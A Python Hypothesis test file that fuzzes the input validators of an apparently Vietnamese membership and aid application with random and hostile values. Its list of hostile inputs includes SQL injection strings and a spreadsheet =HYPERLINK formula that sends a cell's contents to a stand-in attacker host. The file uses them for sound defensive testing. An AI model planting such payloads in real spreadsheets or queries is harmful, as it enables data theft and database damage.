"""Every validator against thousands of random and hostile values: it never raises, it
answers with issues whose messages render, and what it lets through is clean.

Values are what a form or a spreadsheet cell can hold (text, numbers of any size, NaN and
infinities, dates, times, booleans, None) plus hostile text: huge strings, control
characters, SQL and FTS syntax, NFD/NFC mixes, impossible dates, absurd amounts and
spreadsheet formulas.
"""

from __future__ import annotations

import unicodedata
from datetime import date, datetime, timedelta

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chapter_app.domain import validation as v

TODAY = date(2026, 11, 23)
EXAMPLES = settings(
    max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)

HOSTILE_TEXT = [
    "",
    " ",
    "\t\n",
    "\x00",
    "abc\x00def",
    "\x1b[31mđỏ\x1b[0m",
    "\u202eRTL",
    "\ufeff\u200b",
    "\udcff",  # an undecodable byte of a command line (surrogateescape)
    "'; DROP TABLE people; --",
    '" OR 1=1 --',
    'nguyen* AND NOT "x" OR NEAR(a b)',
    "people_fts MATCH '*'",
    '"',
    "%_\\",
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+84 912 345 678",
    "@SUM(A1:A9)",
    "-1",
    "-1.000.000",
    "−500.000 đ",
    "1e309",
    "NaN",
    "inf",
    "-Infinity",
    "１２３",
    "٣٤٥",
    "1.000.000.000.000.001 đ",
    "999999999999999999999999999999999999999",
    "12,5",
    "100,000",
    "0x1F",
    "31/02/2026",
    "29/02/2025",
    "00/00/0000",
    "31/13/2026",
    "32/01/2026",
    "2026-02-30",
    "9999-99-99",
    "1/1/1",
    "01/01/26",
    "05/01/0001",
    "01/01/99999",
    "1850",
    "3000",
    "Nam",
    "nữ",
    "x",
    "có",
    "không",
    unicodedata.normalize("NFD", "Nguyễn Thị Ánh Tuyết"),
    unicodedata.normalize("NFC", "Nguyễn Thị Ánh Tuyết"),
    unicodedata.normalize("NFD", "Nguyễn") + " " + unicodedata.normalize("NFC", "Thị Ánh"),
    "Đỗ đ Đ",
    "😀" * 10,
    "a" * 100_000,
    "1" * 100_000,
    "0" * 12,
    "051190001234",
    "051 190 001 234",
    "0912.345.678",
    "+84912345678",
    "01689123456",
    "093 xxx xxxx",
]

SCALARS = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=-(10**40), max_value=10**40),
    st.floats(allow_nan=True, allow_infinity=True),
    st.decimals(allow_nan=True, allow_infinity=True),
    st.dates(),
    st.datetimes(),
    st.times(),
    st.timedeltas(),
)
TEXT = st.one_of(
    st.sampled_from(HOSTILE_TEXT),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=200),
    st.from_regex(r"[0-9 ./\-]{0,14}", fullmatch=True),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE_TEXT), st.text(max_size=10)),
)
VALUES = st.one_of(TEXT, SCALARS)
FIELD = "field_x"


def well_formed(result, *, field: str | None = FIELD):
    """The common contract: ``(value, issues)``; issues render; errors leave no value."""
    assert isinstance(result, tuple) and len(result) == 2
    value, issues = result
    assert isinstance(issues, list)
    for issue in issues:
        assert isinstance(issue, v.Issue)
        if field is not None:
            assert issue.field == field
        message = issue.render()
        assert isinstance(message, str) and message.strip()
    return value, issues


def has_error(issues) -> bool:
    return bool(v.errors(issues))


@EXAMPLES
@given(VALUES, st.integers(min_value=1, max_value=3000), st.booleans(), st.booleans())
def test_check_text(value, max_length, multiline, required):
    text, issues = well_formed(
        v.check_text(
            value, field=FIELD, max_length=max_length, multiline=multiline, required=required
        )
    )
    if has_error(issues):
        assert text is None
    if text is not None:
        assert unicodedata.is_normalized("NFC", text)
        assert len(text) <= max_length
        assert text == text.strip()
        assert not any(unicodedata.category(ch) in ("Cc", "Cs") and ch not in "\n\t" for ch in text)
        if not multiline:
            assert "\n" not in text and "\t" not in text


@EXAMPLES
@given(VALUES, st.booleans())
def test_check_money(value, required):
    amount, issues = well_formed(v.check_money(value, field=FIELD, required=required))
    if has_error(issues):
        assert amount is None
    if amount is not None:
        assert type(amount) is int and 0 <= amount <= v.MONEY_MAX


@EXAMPLES
@given(VALUES, st.integers(min_value=0, max_value=10**9))
def test_check_count(value, maximum):
    count, issues = well_formed(v.check_count(value, field=FIELD, maximum=maximum))
    if has_error(issues):
        assert count is None
    if count is not None:
        assert type(count) is int and 0 <= count <= maximum


@EXAMPLES
@given(VALUES)
def test_check_quantity(value):
    quantity, issues = well_formed(v.check_quantity(value, field=FIELD))
    if has_error(issues):
        assert quantity is None
    if quantity is not None:
        assert isinstance(quantity, float) and 0 <= quantity <= v.QUANTITY_MAX


@EXAMPLES
@given(VALUES, st.booleans())
def test_parse_date(value, required):
    day, issues = well_formed(v.parse_date(value, field=FIELD, required=required))
    if has_error(issues):
        assert day is None
    if isinstance(value, date):  # a date cell passes through when its year is plausible
        plain = value.date() if isinstance(value, datetime) else value
        assert day == (plain if 1900 <= plain.year <= 2100 else None)
    elif day is not None:
        assert type(day) is date and 1900 <= day.year <= 2100


@EXAMPLES
@given(VALUES)
def test_parse_birth(value):
    birth, issues = well_formed(v.parse_birth(value, field=FIELD, today=TODAY))
    if has_error(issues):
        assert birth is None
    if birth is not None:
        assert isinstance(birth, v.PartialDate)
        assert 1900 <= birth.year <= TODAY.year
        assert birth.as_date() is None or birth.as_date() <= TODAY


@EXAMPLES
@given(VALUES)
def test_normalise_phone(value):
    phone, issues = well_formed(v.normalise_phone(value, field=FIELD))
    if has_error(issues):
        assert phone is None
    if phone is not None:
        assert phone.isascii() and phone.isdigit() and phone.startswith("0")
        assert 10 <= len(phone) <= 11


@EXAMPLES
@given(
    VALUES, st.sampled_from([None, "M", "F", "Nam", "nữ", "x"]), st.one_of(st.none(), st.integers())
)
def test_check_id_number(value, sex, birth_year):
    number, issues = well_formed(
        v.check_id_number(value, sex=sex, birth_year=birth_year, field=FIELD)
    )
    if has_error(issues):
        assert number is None
    if number is not None:
        assert number.isascii() and number.isdigit() and len(number) in (9, 12)


@EXAMPLES
@given(VALUES)
def test_check_sex(value):
    sex, issues = well_formed(v.check_sex(value, field=FIELD))
    assert sex in (None, "M", "F")
    if has_error(issues):
        assert sex is None


@EXAMPLES
@given(VALUES)
def test_check_flag(value):
    flag, issues = well_formed(v.check_flag(value, field=FIELD))
    assert type(flag) is bool
    if has_error(issues):
        assert flag is False


@EXAMPLES
@given(st.one_of(st.none(), st.dates()), st.one_of(st.none(), st.dates()))
def test_check_date_order(start, end):
    issues = v.check_date_order(start, end, field=FIELD, start_label="từ", end_label="đến")
    well_formed((None, issues))
    assert has_error(issues) == (start is not None and end is not None and end < start)


PARTIAL_DATES = st.one_of(
    st.none(),
    st.integers(min_value=1, max_value=9999).map(v.PartialDate),
    st.dates().map(v.PartialDate.from_date),
)


@EXAMPLES
@given(
    PARTIAL_DATES,
    st.dates(),
    st.one_of(st.none(), st.integers(min_value=-5, max_value=200)),
    st.one_of(st.none(), st.integers(min_value=-5, max_value=200)),
)
def test_check_age_only_ever_warns(birth, on, minimum, maximum):
    issues = v.check_age(birth, on=on, minimum=minimum, maximum=maximum, role_label="Hội viên")
    well_formed((None, issues), field=None)
    assert not has_error(issues) or any("sớm hơn ngày sinh" in i.message for i in issues)


@EXAMPLES
@given(st.from_regex(r"[0-9]{12}", fullmatch=True))
def test_id_number_facts(number):
    province, sex, year = v.id_number_facts(number)
    assert province == int(number[:3])
    assert sex in ("M", "F")
    assert year % 100 == int(number[4:6])


@EXAMPLES
@given(TEXT)
def test_split_full_name(text):
    parts = v.split_full_name(text)
    assert len(parts) == 3 and all(isinstance(p, str) for p in parts)
    joined = " ".join(p for p in parts if p)
    assert joined.casefold() == " ".join(text.split()).casefold()


@EXAMPLES
@given(TEXT)
def test_the_validators_inlined_split_agrees_with_split_full_name(text):
    """``_split_name`` inlines ``split_full_name`` (a call a row, on the import's hot path):
    the two must give the same parts and the same joined name."""
    cleaned, _issues = v._split_name(text, "full_name")
    family, middle, given = v.split_full_name(text)
    assert (cleaned["family_name"], cleaned["middle_name"], cleaned["given_name"]) == (
        family,
        middle,
        given,
    )
    assert cleaned["full_name"] == " ".join(p for p in (family, middle, given) if p)


RECORD_KEYS = [
    "full_name",
    "family_name",
    "middle_name",
    "given_name",
    "birth",
    "birth_date",
    "sex",
    "id_number",
    "phone",
    "address",
    "notes",
    "ethnicity",
    "religion",
    "health_notes",
    "disability",
    "agent_orange",
    "branch",
    "admitted_on",
    "decision_no",
    "card_no",
    "registered_on",
    "left_on",
    "is_core",
    "skills",
    "team",
    "hours",
    "given_on",
    "recipient_kind",
    "head_count",
    "cash_value",
    "goods_value",
    "quantity",
    "unit",
    "group_name",
    "description",
    "persons_reached",
    "households_reached",
    "funding_source",
    "form",
    "is_emergency",
    "campaign",
    "area",
    "sponsor",
    "recipient",
    "start_on",
    "end_on",
    "amount",
    "frequency",
    "name",
    "opened_on",
    "survey_date",
    "certified_on",
    "street_address",
    "circumstances",
    "needs",
    "file_no",
    "registry_id",
    "kind",
    "email",
    "contact_name",
    "person_id",
    "address_id",
    "sponsor_id",
]


def _with_categories(values: dict, categories: list | None) -> dict:
    return values if categories is None else {**values, "category_ids": categories}


# ``category_ids`` is the form's list of ticked categories, never typed text: it is fuzzed
# as a list of hostile values (validate_address raises TypeError for a non-list there).
RAW_RECORDS = st.builds(
    _with_categories,
    st.dictionaries(
        st.one_of(st.sampled_from(RECORD_KEYS), st.text(max_size=8)), VALUES, max_size=25
    ),
    st.one_of(st.none(), st.lists(VALUES, max_size=3)),
)
SETTINGS = st.fixed_dictionaries(
    {},
    optional={
        "member_min_age": st.integers(min_value=0, max_value=120),
        "volunteer_min_age": st.integers(min_value=0, max_value=120),
    },
)


def record_result(result):
    cleaned, issues = well_formed(result, field=None)
    assert isinstance(cleaned, dict)
    return cleaned, issues


@settings(
    max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(
    st.sampled_from(["person", "member", "volunteer"]),
    RAW_RECORDS,
    SETTINGS,
    st.dates(min_value=date(1990, 1, 1), max_value=date(2090, 12, 31)),
)
def test_person_validators(which, raw, settings_values, today):
    validator = getattr(v, f"validate_{which}")
    cleaned, issues = record_result(validator(raw, today=today, settings=settings_values))
    if not has_error(issues):
        assert cleaned.get("given_name") or cleaned.get("full_name")


@settings(
    max_examples=200, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(RAW_RECORDS, st.dates(min_value=date(1990, 1, 1), max_value=date(2090, 12, 31)))
def test_validate_aid(raw, today):
    cleaned, issues = record_result(v.validate_aid(raw, today=today))
    assert cleaned["value_total"] == cleaned["cash_value"] + cleaned["goods_value"]
    if not has_error(issues):
        assert cleaned["recipient_kind"] in v.RECIPIENT_KINDS
        assert cleaned["funding_source"] in v.FUNDING_SOURCES
        assert cleaned["form"] in v.AID_FORMS
        assert 0 <= cleaned["cash_value"] <= v.MONEY_MAX
        assert cleaned["given_on"] <= today + timedelta(days=366)


@settings(
    max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow]
)
@given(
    st.sampled_from(["commitment", "address"]),
    RAW_RECORDS,
    st.dates(min_value=date(1990, 1, 1), max_value=date(2090, 12, 31)),
)
def test_dated_record_validators(which, raw, today):
    cleaned, issues = record_result(getattr(v, f"validate_{which}")(raw, today=today))
    if which == "commitment" and not has_error(issues):
        assert cleaned["end_on"] is None or cleaned["end_on"] >= cleaned["start_on"]
        assert 0 <= cleaned["amount"] <= v.MONEY_MAX


@settings(max_examples=150, deadline=None, derandomize=True)
@given(RAW_RECORDS)
def test_validate_sponsor(raw):
    cleaned, issues = record_result(v.validate_sponsor(raw))
    assert cleaned["kind"] in ("org", "person")
    if not has_error(issues):
        assert cleaned["name"]


@EXAMPLES
@given(
    st.lists(
        st.builds(
            v.Issue, st.just("f"), st.just("x"), st.just({}), st.sampled_from(list(v.Severity))
        ),
        max_size=4,
    )
)
def test_raise_if_errors_raises_exactly_when_there_is_an_error(issues):
    try:
        v.raise_if_errors(issues)
    except v.ValidationFailed as failed:
        assert v.errors(issues)
        assert list(failed.issues) == list(issues)
    else:
        assert not v.errors(issues)


def test_the_hostile_list_covers_what_the_issue_names():
    joined = "".join(HOSTILE_TEXT)
    for needle in ("DROP TABLE", "NEAR(", "31/02", "=HYPERLINK", "\x00", "-1.000.000"):
        assert needle in joined
    assert max(len(t) for t in HOSTILE_TEXT) >= 100_000
    assert any(not unicodedata.is_normalized("NFC", t) for t in HOSTILE_TEXT)
